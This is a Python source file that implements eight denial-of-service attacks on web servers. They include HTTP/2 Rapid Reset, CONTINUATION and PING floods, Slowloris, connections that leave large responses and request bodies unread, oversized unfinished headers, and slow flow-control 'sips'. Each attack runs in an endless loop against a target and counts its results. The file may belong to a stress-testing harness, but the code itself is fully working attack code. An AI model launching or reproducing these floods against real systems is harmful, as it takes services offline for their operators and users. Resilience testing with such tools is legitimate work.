"""Attacks on HTTP over TCP: slow heads, and HTTP/2 frames that cost more than they carry."""

import itertools
import socket
import ssl
import struct
import time
from collections.abc import Callable, Iterator

from report import Report
from wire import Target

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\0\0\0\x04\0\0\0\0\0"
DATA, HEADERS, RST_STREAM, SETTINGS, PING, WINDOW_UPDATE, CONTINUATION = 0, 1, 3, 4, 6, 8, 9
ACK, END_STREAM, END_HEADERS = 1, 1, 4

# Connections at once of those who are slow.
CROWD = 200
# Frames in one go; of those that are small, more.
BURST, MANY = 100, 5000


def connect(target: Target, protocol: str) -> ssl.SSLSocket:
    """A connection whose handshake is over."""
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    context.set_alpn_protocols([protocol])
    made = socket.create_connection((target.host, target.port), timeout=20)
    return context.wrap_socket(made, server_hostname=target.name)


def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    """A frame of HTTP/2."""
    return struct.pack("!I", len(payload))[1:] + struct.pack("!BBI", kind, flags, stream) + payload


def head(target: Target, path: str, method: str = "GET") -> bytes:
    """A request without a table."""
    fields = ((":method", method), (":scheme", "https"), (":authority", target.name), (":path", path))
    return b"".join(
        bytes([0, len(name)]) + name.encode() + bytes([len(value)]) + value.encode() for name, value in fields
    )


def flood(
    target: Target, report: Report, start: bytes, make: Callable[[int], bytes], burst: int = BURST
) -> Iterator[None]:
    """Bursts of what `make` makes of a number, on one connection after the other."""
    while True:
        wire = connect(target, "h2")
        report.add("connections")
        try:
            wire.sendall(PREFACE + start)
            wire.settimeout(0.001)
            for number in itertools.count(0, burst):
                wire.settimeout(20)
                wire.sendall(b"".join(make(number + i) for i in range(burst)))
                report.add("frames", burst)
                wire.settimeout(0.001)
                try:
                    while wire.recv(1 << 16):
                        pass
                    report.add("closed")
                    break
                except (TimeoutError, ssl.SSLWantReadError):
                    pass
                yield
        except OSError:
            report.add("closed")
        finally:
            wire.close()
        yield


def tcp_rapid_resets(target: Target, report: Report) -> Iterator[None]:
    """Requests that are taken back at once."""
    section = head(target, "/long.mp4")

    def make(number: int) -> bytes:
        stream = 2 * number + 1
        whole = frame(HEADERS, END_HEADERS | END_STREAM, stream, section)
        return whole + frame(RST_STREAM, 0, stream, struct.pack("!I", 8))

    return flood(target, report, b"", make)


def tcp_continuations(target: Target, report: Report) -> Iterator[None]:
    """A header section that goes on and on."""
    start = frame(HEADERS, END_STREAM, 1, head(target, "/small.txt"))
    piece = b"\x00\x01x\x01y" * 100
    return flood(target, report, start, lambda _: frame(CONTINUATION, 0, 1, piece))


def tcp_pings(target: Target, report: Report) -> Iterator[None]:
    """Pings and settings, each of which is to be answered."""
    return flood(target, report, b"", lambda n: frame(PING, 0, 0, bytes(8)) if n % 2 else frame(SETTINGS, 0, 0), MANY)


def crowd(target: Target, report: Report, protocol: str, first: bytes, then: bytes, late: bytes = b"") -> Iterator[None]:
    """Connections that say `first`, `late` when they are answered, and then now and then `then`."""
    people: list[ssl.SSLSocket] = []
    try:
        while True:
            for _ in range(min(5, CROWD - len(people))):
                try:
                    made = connect(target, protocol)
                    made.sendall(first)
                    if late and made.recv(1 << 16):
                        made.sendall(late)
                except OSError:
                    report.add("refused")
                    continue
                made.setblocking(False)
                people.append(made)
                report.add("connections")
            left = []
            for one in people:
                try:
                    one.send(then)
                    left.append(one)
                except (BlockingIOError, ssl.SSLWantWriteError, ssl.SSLWantReadError):
                    left.append(one)
                except OSError:
                    report.add("closed")
                    one.close()
            people = left
            time.sleep(0.05)
            yield
    finally:
        for one in people:
            one.close()


def tcp_slow_heads(target: Target, report: Report) -> Iterator[None]:
    """Requests that never end (Slowloris)."""
    return crowd(target, report, "http/1.1", b"GET / HTTP/1.1\r\nhost: x\r\n", b"x: y\r\n")


def tcp_unread(target: Target, report: Report) -> Iterator[None]:
    """Large responses of which nothing is read."""
    get = f"GET /long.mp4 HTTP/1.1\r\nhost: {target.name}\r\n\r\n".encode()
    return crowd(target, report, "http/1.1", get, b"")


# Octets of a body that HTTP/2 has a client send before they are read, and how many such bodies a connection has.
BODY, BODIES = 128_000, 2


def tcp_unread_bodies(target: Target, report: Report) -> Iterator[None]:
    """Bodies of requests that an origin does not take."""
    streams = range(1, 2 * BODIES, 2)
    section = head(target, "/", "POST")
    start = PREFACE + b"".join(frame(HEADERS, END_HEADERS, stream, section) for stream in streams)
    bodies = b"".join(frame(DATA, 0, stream, bytes(16_000)) for stream in streams for _ in range(BODY // 16_000))
    return crowd(target, report, "h2", start, b"", frame(SETTINGS, ACK, 0) + bodies)


def tcp_parts(target: Target, report: Report) -> Iterator[None]:
    """Large header sections that are not ended."""
    return crowd(target, report, "http/1.1", b"GET / HTTP/1.1\r\nhost: x\r\nx: " + b"y" * 40_000, b"y")


# Responses at once of each connection that sips, and what it takes of each at a time.
SIPPED, SIP = 20, 16 << 10


def tcp_sips(target: Target, report: Report) -> Iterator[None]:
    """Large responses whose windows open by a little several times a second, and all of that is read."""
    section = head(target, "/long.mp4")
    streams = range(1, 2 * SIPPED, 2)
    start = PREFACE + b"".join(frame(HEADERS, END_HEADERS | END_STREAM, stream, section) for stream in streams)
    more = struct.pack("!I", SIP)
    update = frame(WINDOW_UPDATE, 0, 0, struct.pack("!I", SIPPED * SIP)) + b"".join(
        frame(WINDOW_UPDATE, 0, stream, more) for stream in streams
    )
    while True:
        wire = connect(target, "h2")
        report.add("connections")
        try:
            wire.sendall(start)
            report.add("requests", SIPPED)
            while True:
                wire.settimeout(20)
                wire.sendall(update)
                report.add("sips")
                deadline = time.monotonic() + 0.25
                while (left := deadline - time.monotonic()) > 0:
                    wire.settimeout(left)
                    try:
                        data = wire.recv(1 << 16)
                    except (TimeoutError, ssl.SSLWantReadError):
                        break
                    if not data:
                        raise ConnectionResetError
                    report.add("bytes", len(data))
                yield
        except OSError:
            report.add("closed")
        finally:
            wire.close()
        yield


ATTACKS = (tcp_rapid_resets, tcp_continuations, tcp_pings, tcp_slow_heads, tcp_unread, tcp_sips, tcp_parts, tcp_unread_bodies)
